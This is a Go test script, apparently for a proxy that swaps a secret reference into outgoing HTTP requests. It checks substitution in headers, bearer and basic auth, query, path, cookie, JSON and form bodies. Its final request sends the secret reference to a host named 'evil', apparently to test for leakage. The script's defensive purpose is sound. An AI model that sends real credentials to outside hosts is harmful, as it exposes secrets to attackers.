// Go's net/http. Run by `go run go.go`.
package main

import (
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
)

const ref = "{secrets.crm.apiKey}"

func send(method, target, body string, change func(*http.Request)) *http.Response {
	request, err := http.NewRequest(method, target, strings.NewReader(body))
	if err != nil {
		panic(err)
	}
	change(request)
	answer, err := http.DefaultClient.Do(request)
	if err != nil {
		panic(err)
	}
	return answer
}

func ok(method, target, body string, change func(*http.Request)) {
	answer := send(method, target, body, change)
	text, _ := io.ReadAll(answer.Body)
	if answer.StatusCode != 200 {
		panic(string(text))
	}
}

func field(name, value string) func(*http.Request) {
	return func(request *http.Request) { request.Header.Set(name, value) }
}

func main() {
	base, evil := os.Args[1], os.Args[2]
	ok("GET", base+"/header", "", field("X-Api-Key", ref))
	ok("GET", base+"/bearer", "", field("Authorization", "Bearer "+ref))
	ok("GET", base+"/query?"+url.Values{"k": {ref}}.Encode(), "", field("X", "x"))
	ok("GET", base+"/path/"+ref+"/x", "", field("X", "x"))
	ok("GET", base+"/basic", "", func(request *http.Request) { request.SetBasicAuth("me", ref) })
	ok("GET", base+"/cookie", "", func(request *http.Request) { request.AddCookie(&http.Cookie{Name: "s", Value: ref}) })
	ok("POST", base+"/json", `{"k":"`+ref+`"}`, field("Content-Type", "application/json"))
	ok("POST", base+"/form", url.Values{"k": {ref}}.Encode(), field("Content-Type", "application/x-www-form-urlencoded"))
	fmt.Println("version", send("GET", base+"/version", "", field("X", "x")).Proto)
	text, _ := io.ReadAll(send("GET", evil+"/", "", field("X", ref)).Body)
	fmt.Println(string(text))
}
